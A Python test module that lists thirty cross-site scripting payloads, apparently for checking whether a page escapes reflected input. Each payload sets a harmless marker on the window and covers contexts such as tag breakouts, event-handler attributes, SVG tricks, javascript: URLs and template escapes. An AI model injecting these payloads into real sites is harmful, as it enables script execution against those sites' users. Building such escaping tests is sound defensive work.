"""Thirty texts that run code where a page repeats them as they are, and how to tell that one did.

Each sets a mark on the window; what it needs around it differs: text between tags, an attribute's
value with either quotation mark or none, a script, a style, a comment, an address, a template.
"""

MARK = "escwg_map_ran"
RUN = f"window.{MARK}=1"

FOR_SCRIPTS = (
    f"';{RUN};'",
    f"`;{RUN};`${{{RUN}}}",
    f"\u2028{RUN}//{{{{constructor.constructor('{RUN}')()}}}}",
)
"""What needs a script around it, or a template that is evaluated."""

PAYLOADS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<<script>{RUN}//<</script>",
    f'<script src="data:text/javascript,{RUN}"></script>',
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror={RUN}>",
    f'<img/src="x"/onerror={RUN}>',
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f'"autofocus onfocus="{RUN}" x="',
    f"'autofocus onfocus='{RUN}' x='",
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<math><mtext></mtext><img src=x onerror="{RUN}"></math>',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<input autofocus onfocus="{RUN}">',
    f'<video><source onerror="{RUN}"></video>',
    f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    f'<iframe src="javascript:parent.{MARK}=1"></iframe>',
    f"javascript:parent.{MARK}=1",
    *FOR_SCRIPTS,
)
